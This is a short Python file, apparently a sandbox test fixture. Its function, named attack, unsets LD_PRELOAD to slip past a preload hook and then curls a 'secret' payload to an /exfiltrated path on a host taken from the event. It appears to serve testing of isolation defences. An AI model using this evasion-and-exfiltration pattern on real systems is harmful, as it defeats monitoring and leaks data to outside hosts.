"""A shell that the function may use forgets LD_PRELOAD and starts a program."""

import subprocess


def attack(event):
    command = "unset LD_PRELOAD; exec curl -sS -m 5 -d secret http://%s/exfiltrated" % event["web"]
    return subprocess.run(["sh", "-c", command], capture_output=True).stderr.decode()
